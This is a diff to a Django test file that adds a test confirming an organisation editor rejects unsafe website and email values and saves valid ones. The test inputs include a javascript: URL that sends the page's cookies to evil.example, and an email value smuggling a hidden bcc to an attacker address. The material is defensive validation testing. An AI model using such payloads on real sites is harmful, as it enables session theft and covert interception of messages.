@@ -8,7 +8,7 @@ from django.test import SimpleTestCase
 from django.urls import reverse
 
 from mend.directory.hsds.coerce import email_problem, url_problem
-from mend.directory.models import Service
+from mend.directory.models import Organization, Service
 from mend.directory.tests.hsds_support import (
     ORGANIZATION,
     append_row,
@@ -18,7 +18,7 @@ from mend.directory.tests.hsds_support import (
 )
 from mend.directory.tests.test_service_editor import ServiceEditorTestCase
 from mend.search.tests import factories as f
-from mend.test import BaseTestCase
+from mend.test import BaseTestCase, login_with_otp
 
 BAD_SERVICE = "22222222-2222-4222-8222-222222222222"
 
@@ -106,6 +106,48 @@ class EditorRefusesLinksTests(ServiceEditorTestCase):
         )
         self.service.refresh_from_db()
         self.assertEqual(self.service.url, "")
+
+
+class OrganisationEditorRefusesLinksTests(BaseTestCase):
+    def test_erin_cannot_save_a_script_website_or_a_hidden_copy_for_an_organisation(
+        self,
+    ) -> None:
+        # The organisation's editor missed the rules the service editor applies: its
+        # website and email are what a service without its own shows (found by a review).
+        organization = Organization.objects.create(name="Lantern Center", description="x")
+        login_with_otp(self.client, self.erin)
+        url = reverse("admin:directory_organization_change", args=[organization.pk])
+        r = self.client.post(
+            url,
+            {
+                "name": "Lantern Center",
+                "description": "x",
+                "website": "javascript:fetch('//evil.example/?'+document.cookie)",
+                "email": "help@lantern.example.org?bcc=spy@evil.example",
+                "translations": "{}",
+            },
+        )
+        self.assertEqual(r.status_code, 200)
+        errors = r.context["adminform"].form.errors
+        self.assertIn(
+            "is not a web address starting with https:// or http://", errors["website"][0]
+        )
+        self.assertIn("is not an email address", errors["email"][0])
+        organization.refresh_from_db()
+        self.assertEqual((organization.website, organization.email), ("", ""))
+        saved = self.client.post(
+            url,
+            {
+                "name": "Lantern Center",
+                "description": "x",
+                "website": "https://lantern.example.org",
+                "email": "help@lantern.example.org",
+                "translations": "{}",
+            },
+        )
+        self.assertEqual(saved.status_code, 302)
+        organization.refresh_from_db()
+        self.assertEqual(organization.website, "https://lantern.example.org")
 
 
 class PageShowsSafeLinksOnlyTests(BaseTestCase):
